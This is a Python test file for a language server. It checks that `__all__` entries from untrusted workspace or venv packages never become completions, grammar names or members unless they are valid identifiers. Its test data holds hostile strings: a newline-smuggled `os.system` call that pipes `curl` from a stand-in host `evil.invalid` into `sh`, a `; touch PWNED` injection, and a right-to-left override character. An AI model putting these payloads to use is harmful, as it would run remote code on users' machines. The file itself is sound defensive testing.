"""Attacks through Python names that come from workspace data rather than from parsed
code: the strings of another module's ``__all__``, which ``from module import *``
binds, and which a stub's star import makes members of a package (in the workspace's
``.venv``). A cloned repository may list anything there (``"x\\nimport os"``, ``"a; b"``);
only Python identifiers may become Γ (completion items, the grammar, hover)."""

from __future__ import annotations

import json
from pathlib import Path

from gdg_lsp import fragments, words
from gdg_lsp.bench.inprocess import InProcessServer
from gdg_lsp.documents import Snapshot
from gdg_lsp.grammar.engine import accepts
from gdg_lsp.languages.base import Hole, WorkspaceContext
from gdg_lsp.languages.python import interpreter
from gdg_lsp.languages.python.analyzer import PythonAnalyzer, parse
from gdg_lsp.settings import PythonSettings, Settings
from tests.python_env import add_package, make_env

ALL = ["tool", "x\nimport os; os.system('curl -s https://evil.invalid/x | sh')", "semi; touch PWNED", "if",
       "RTLNAME\u202e", "sp ace", "naïve"]
MARKERS = ("import os", "PWNED", "RTLNAME", "sp ace", "evil.invalid")


def _workspace(root: Path) -> None:
    (root / "helpers.py").write_text(f"__all__ = {ALL!r}\ndef tool(): pass\n", encoding="utf-8")


def _hole(root: Path, text: str) -> Hole:
    snapshot = Snapshot((root / "main.py").as_uri(), "python", 1, text, parse(text.encode()))
    hole = PythonAnalyzer().hole_at(snapshot, len(text), WorkspaceContext(roots=[root]))
    assert isinstance(hole, Hole), hole
    return hole


def test_all_entries_that_are_not_identifiers_are_left_out_of_gamma(tmp_path: Path, byte_engine):
    _workspace(tmp_path)
    hole = _hole(tmp_path, "from helpers import *\n")
    names = set(hole.gamma.names())
    assert {"tool", "naïve"} <= names  # a Unicode identifier is an identifier
    for marker in MARKERS:
        assert not any(marker in name for name in names), marker
    assert "if" not in names  # a keyword cannot be bound by an import
    grammar = byte_engine.get(fragments.instantiate(fragments.fragment("python", "statement"), "gamma",
                                                    hole.gamma, hole.context))
    assert accepts(grammar, "tool()\n")
    assert not accepts(grammar, "x\nimport")
    assert not accepts(grammar, "semi; touch")
    rejected = {(r.source, r.name) for r in words.REJECTIONS.all()}
    assert (str(tmp_path / "helpers.py"), ALL[1]) in rejected and (str(tmp_path / "helpers.py"), "if") in rejected


async def test_completion_items_never_show_a_rejected_all_entry(tmp_path: Path):
    _workspace(tmp_path)
    uri = (tmp_path / "main.py").as_uri()
    text = "from helpers import *\n"
    async with InProcessServer(initialization_options={"model": "/nonexistent/m.gguf"},
                               root_uri=tmp_path.as_uri()) as server:
        server.open(uri, text, "python")
        answer = await server.request("textDocument/completion", {
            "textDocument": {"uri": uri}, "position": {"line": 1, "character": 0}})
        shown = json.dumps(answer["result"])
        assert '"tool"' in shown, shown
        for marker in MARKERS:
            assert marker not in shown, marker


def test_a_stub_star_import_makes_no_member_of_an_all_string(tmp_path: Path):
    """``evilpkg/__init__.pyi``: ``from ._names import *``, whose ``__all__`` lists a line of code:
    typeshed's reader binds every string of it, and the member surface offered them after ``evilpkg.``."""
    python, site = make_env(tmp_path / ".venv")
    add_package(site, "evilpkg", "1.0", "from ._names import *\n")
    (site / "evilpkg" / "_names.py").write_text(f"__all__ = {ALL!r}\ntool = 1\n", encoding="utf-8")
    (site / "evilpkg" / "__init__.pyi").write_text("from ._names import *\n")
    (site / "evilpkg" / "_names.pyi").write_text(f"__all__ = {ALL!r}\ntool: int\n", encoding="utf-8")
    interpreter.forget()
    text = "import evilpkg\nevilpkg."
    snapshot = Snapshot((tmp_path / "main.py").as_uri(), "python", 1, text, parse(text.encode()))
    workspace = WorkspaceContext(roots=[tmp_path], settings=Settings(python=PythonSettings(interpreter=str(python))))
    try:
        gamma = PythonAnalyzer().gamma_at(snapshot, len(text), workspace)
    finally:
        interpreter.forget()
    members = set(gamma.names("Member"))
    assert "evilpkg.tool" in members, sorted(members)
    for marker in MARKERS:
        assert not any(marker in name for name in members), marker
    assert "evilpkg.if" not in members
